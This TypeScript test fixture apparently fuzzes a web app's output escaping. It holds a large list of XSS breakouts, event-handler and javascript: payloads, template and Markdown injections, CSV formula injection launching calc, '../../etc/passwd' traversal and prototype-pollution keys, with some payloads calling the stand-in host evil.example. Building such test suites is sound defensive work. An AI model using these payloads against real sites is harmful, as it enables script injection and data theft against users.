/**
 * Hostile texts: what would run, ask, break out, hide or overflow if a page took it for more than text. Each that could run
 * sets `window.broken`; each that could ask names `evil.example`.
 */
const RUN = 'window.broken=1'
const URL = '//evil.example/x'
const js = `javascript:${RUN}`

/** Events that fire without a hand on the page. */
const EVENTS = [
  ['img src=x', 'onerror'],
  [`img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="`, 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onresize'],
  ['body', 'onhashchange'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocusin'],
  ['a tabindex=1 autofocus href=#', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['iframe src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['div style="animation:x"', 'onanimationstart'],
  ['div style="transition:all 1s"', 'ontransitionend'],
  ['div', 'onmouseover'],
  ['div', 'onpointerenter'],
  ['dialog open', 'onclose'],
  ['form', 'onsubmit'],
  ['math', 'onclick'],
  ['keygen autofocus', 'onfocus'],
] as const

/** Addresses that are code or another place. */
const ADDRESSES = [
  'a href',
  'area href',
  'base href',
  'form action',
  'button formaction',
  'input type=image src',
  'iframe src',
  'frame src',
  'embed src',
  'object data',
  'link rel=import href',
  'meta content',
  'svg><a xlink:href',
  'svg><use href',
  'svg><image href',
  'math href',
  'maction xlink:href',
  'video poster',
  'track src',
  'blockquote cite',
  'table background',
]

const BREAKOUTS = [
  `</script><script>${RUN}</script>`,
  `</ScRiPt ><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `</xmp><script>${RUN}</script>`,
  `</iframe><script>${RUN}</script>`,
  `</svg><script>${RUN}</script>`,
  `</math><script>${RUN}</script>`,
  `</table></div></section></main><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="application/json" id="meta">{}</script>`,
  `<!--<script>${RUN}-->`,
  `--><script>${RUN}</script><!--`,
  `--!><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `]]><script>${RUN}</script>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<!DOCTYPE html [<!ENTITY x "${RUN}">]>&x;`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `\`><img src=x onerror=\`${RUN}\`>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `x onerror=${RUN} `,
  `<img src=x onerror=${RUN}`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>&#119;indow.broken=1</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName="onload" to="${RUN}"/>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math><mi xlink:href="${js}">x</mi></math>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<div popover id="term-adjusted-p">x</div>`,
  `<form id="meta"><input name="textContent"></form>`,
  `<a id="documentElement"></a><a name="location"></a>`,
  `<style>*{display:none}</style>`,
  `<style>@import "${URL}"</style>`,
  `<link rel=preload as=image href="${URL}">`,
  `<link rel=dns-prefetch href="${URL}">`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
]

const TEMPLATES = [
  `\${${RUN}}`,
  `\`\${${RUN}}\``,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[\${${RUN}}]]`,
  `");${RUN};("`,
  `');${RUN};('`,
  `\\");${RUN};//`,
  `\u2028${RUN}\u2029`,
  `datum.constructor.constructor('${RUN}')()`,
  `$& $1 $\` $' $$`,
]

const MARKDOWN = [
  `[x](${js})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=)`,
  `[x](vbscript:${RUN})`,
  `[x]: ${js}\n\n[x]`,
  `<${js}>`,
  `![x](${URL})`,
  `![x"onerror="${RUN}](x)`,
  `[![x](x "onerror=${RUN}")](${js})`,
  `| a |\n| - |\n| [x](${js}) |`,
  `# <img src=x onerror="${RUN}">`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `$\\href{${js}}{x}$`,
]

const CHARACTERS = [
  '\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0080\u009f',
  '\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\ud83d lone high',
  'lone low \udd2c',
  '\ufdd0\uffff\ufffe',
  '\u202e\u202d\u2066\u2067\u2068 overridden',
  '\u200f\u061c مرحبا بالعالم \u05d0\u05d1\u05d2',
  '\u200b\u200c\u200d\u2060\ufeff\u00ad',
  `Z${'\u0335\u0347\u0489'.repeat(60)}`,
  '\u{1f469}\u200d\u{1f52c}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  'Donaudampfschifffahrtsgesellschaft'.repeat(20),
  'W'.repeat(3000),
  '\u3042'.repeat(800),
  ' \t\r\n\u00a0\u2003\u3000 ',
]

const FORMULAS = [
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  `=HYPERLINK("${URL}","x")`,
  '"a,b"\r\nc',
  "'=1+1",
]

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  'length',
]

/** Parts of a link that are no state of the page. */
const LINKS = [
  '#queries?q=%E0%A4%A',
  '#%',
  '?q=%00&a=-1&b=1e999',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '&token=x&with=.&with=..',
  'a=NaN&sort=-__proto__&pin=,,,',
]

export const PAYLOADS: readonly string[] = [
  ...EVENTS.map(([tag, event]) => `<${tag} ${event}="${RUN}">`),
  ...ADDRESSES.map(
    (place, at) =>
      `<${place}="${at % 3 === 0 ? URL : at % 3 === 1 ? js : `data:text/html,<script>parent.${RUN}</script>`}">`,
  ),
  ...BREAKOUTS,
  ...TEMPLATES,
  ...MARKDOWN,
  ...CHARACTERS,
  ...FORMULAS,
  ...KEYS,
  ...LINKS,
]

/** Adds a payload to each text, the same to equal texts, in turn; texts that pages show in full get all of them. */
export function hostile(): (text: string) => string {
  const known = new Map<string, string>()
  return (text) => {
    const place = known.size
    const found =
      known.get(text) ??
      (text.endsWith('.')
        ? [text, ...PAYLOADS].join(' \n\n ')
        : `${text} ${PAYLOADS[place % PAYLOADS.length]}`)
    known.set(text, found)
    return found
  }
}
